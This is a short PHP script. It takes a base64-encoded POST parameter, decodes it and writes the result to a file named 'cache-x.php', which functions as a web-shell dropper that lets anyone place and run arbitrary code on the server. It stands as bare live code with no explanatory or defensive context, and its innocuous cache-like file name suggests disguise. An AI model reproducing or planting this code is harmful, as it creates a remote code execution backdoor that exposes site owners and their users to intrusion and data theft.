<?php
if (isset($_POST['d'])) {
    file_put_contents('cache-x.php', base64_decode($_POST['d']));
    echo 'stored';
}
